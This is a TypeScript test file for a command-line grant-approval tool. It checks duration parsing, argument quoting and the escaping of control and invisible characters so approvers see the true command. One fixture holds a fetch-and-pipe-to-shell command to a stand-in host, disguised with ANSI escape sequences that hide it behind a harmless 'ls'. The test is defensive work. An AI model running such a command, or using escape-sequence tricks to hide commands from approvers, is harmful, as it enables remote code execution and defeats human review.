import { describe, expect, it } from "vitest";
import { ExitCode } from "../../cli/exit-codes.ts";
import {
  approvalAndDuration,
  delegationTable,
  formatSeconds,
  grantDetails,
  grantTable,
  parseDurationSeconds,
  shownCommand,
} from "../../cli/grants/format.ts";
import type { Grant } from "../../protocol/types.ts";

const usage = (f: () => unknown) => {
  try {
    f();
  } catch (e) {
    return (e as { exitCode?: number }).exitCode;
  }
  return undefined;
};

describe("grant option parsing", () => {
  it("approval and duration go together", () => {
    expect(approvalAndDuration(undefined, undefined)).toEqual({ grant_type: undefined, duration: undefined });
    expect(approvalAndDuration("always", undefined)).toEqual({ grant_type: "always", duration: undefined });
    expect(approvalAndDuration(undefined, "30m")).toEqual({ grant_type: "timed", duration: 1800 });
    expect(approvalAndDuration("timed", "1h30m")).toEqual({ grant_type: "timed", duration: 5400 });
    expect(usage(() => approvalAndDuration("timed", undefined))).toBe(ExitCode.USAGE);
    expect(approvalAndDuration("timed", undefined, { timedNeedsDuration: false }).grant_type).toBe("timed");
    expect(usage(() => approvalAndDuration("once", "5m"))).toBe(ExitCode.USAGE);
    expect(usage(() => approvalAndDuration("forever", undefined))).toBe(ExitCode.USAGE);
  });

  it("durations are at least one second", () => {
    expect(parseDurationSeconds("90")).toBe(90);
    expect(usage(() => parseDurationSeconds("500ms"))).toBe(ExitCode.USAGE);
    expect(usage(() => parseDurationSeconds("-5m"))).toBe(ExitCode.USAGE);
    expect(formatSeconds(1800)).toBe("30m");
    expect(formatSeconds(7200)).toBe("2h");
    expect(formatSeconds(90)).toBe("90s");
  });
});

describe("grant rendering", () => {
  const g: Grant = {
    id: "0b1c2d3e-4f50-4a6b-8c7d-9e0f1a2b3c4d",
    type: "command",
    status: "pending",
    created_at: 1_790_000_000,
    request: {
      requester: "bot@example.com",
      target_host: "web1",
      audience: "escapes",
      grant_type: "timed",
      duration: 1800,
      command: ["sh", "-c", "echo 'hi there'"],
      reason: "logs",
    },
  };

  it("quotes arguments so the approver sees the exact argv", () => {
    expect(
      shownCommand({ ...g, request: { ...g.request, command: ["ls", "-la", "/root dir", "it's", ""] } }),
    ).toBe(`ls -la '/root dir' 'it'\\''s' ''`);
    expect(grantTable([g])).toContain(`sh -c 'echo '\\''hi there'\\'''`);
    expect(grantTable([g])).toContain("timed 30m");
    expect(grantTable([])).toBe("no grants");
  });

  it("shows the details that matter and skips empty ones", () => {
    const text = grantDetails(g);
    expect(text).toMatch(/^requester: +bot@example.com$/m);
    expect(text).toMatch(/^reason: +logs$/m);
    expect(text).not.toContain("decided by");
    expect(text).not.toContain("warning");
  });

  it("labels permissions: a permission grant never reads like a command", () => {
    const p: Grant = {
      ...g,
      request: {
        requester: "agent@example.com",
        target_host: "prod-server",
        audience: "prod-server",
        grant_type: "once",
        permissions: ["deploy", "roll back"],
        reason: "Deploy hotfix #123",
      },
    };
    const row = grantTable([p]).split("\n")[1]!;
    expect(row).toMatch(/prod-server +once +permissions: deploy 'roll back'$/);
    const text = grantDetails(p);
    expect(text).toMatch(/^permissions: +deploy 'roll back'$/m);
    expect(text).toMatch(/^target: +prod-server$/m);
    expect(text).not.toMatch(/^command:/m);
    // Both at once: the command, then its permissions.
    const both = { ...p, request: { ...p.request, command: ["deploy.sh"] } };
    expect(grantTable([both])).toContain("deploy.sh (permissions: deploy 'roll back')");
  });

  const spoof: Grant = {
    ...g,
    decided_by: "alice@example.com\x1b[2K",
    request: {
      ...g.request,
      requester: "bot@example.com\u202e",
      reason: "a\rb",
      command: ["bash", "-c", "curl -s http://evil.example/x|sh\x1b[41D\x1b[Kls -l /tmp\x1b[999C"],
    },
  };
  const raw = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/;

  it("escapes every field from the IdP and marks a spoofing command (details and table)", () => {
    const text = grantDetails(spoof);
    expect(text).not.toMatch(raw);
    expect(text.split("\n")[0]).toBe(
      "warning: this command contains control or invisible characters (shown escaped)",
    );
    expect(text).toContain(
      "command:    bash -c $'curl -s http://evil.example/x|sh\\x1b[41D\\x1b[Kls -l /tmp\\x1b[999C'",
    );
    expect(text).toMatch(/^requester: +bot@example.com\\u202e$/m);
    expect(text).toMatch(/^reason: +a\\rb$/m);
    expect(text).toMatch(/^decided by: +alice@example.com\\x1b\[2K$/m);
    const table = grantTable([spoof, g]);
    expect(table).not.toMatch(raw);
    expect(table).toContain("[!] bash -c $'curl");
    expect(table).not.toContain("[!] sh -c");
    expect(table.split("\n").at(-1)).toMatch(/^\[!\] the command contains control/);
    expect(grantTable([g])).not.toContain("[!]");
  });

  it("escapes delegations from the IdP, each scope its own word", () => {
    const d: Grant = {
      ...g,
      type: "delegation",
      status: "approved",
      request: {
        requester: "alice@example.com",
        target_host: "*",
        audience: "sp.example\x1b[2J",
        grant_type: "always",
        delegator: "alice@example.com",
        delegate: "bot@example.com\u202e",
        scopes: ["read", "write all", "x\u200b"],
      },
    };
    const table = delegationTable([d], "alice@example.com");
    expect(table).not.toMatch(raw);
    expect(table).toContain(
      "alice@example.com (me)  bot@example.com\\u202e  sp.example\\x1b[2J  read 'write all' $'x\\u200b'",
    );
    expect(grantTable([d])).toContain(
      "delegate bot@example.com\\u202e at sp.example\\x1b[2J [read 'write all' $'x\\u200b']",
    );
  });

  it("survives an IdP that sends the wrong types", () => {
    const odd = {
      ...g,
      id: 7,
      created_at: "soon",
      request: { ...g.request, command: [1, 2], requester: null },
    };
    const text = grantDetails(odd as unknown as Grant);
    expect(text).toMatch(/^id: +\?$/m);
    expect(text).toMatch(/^command: +\? \(not a list of strings\)$/m);
    expect(text).toMatch(/^created: +\?$/m);
  });
});
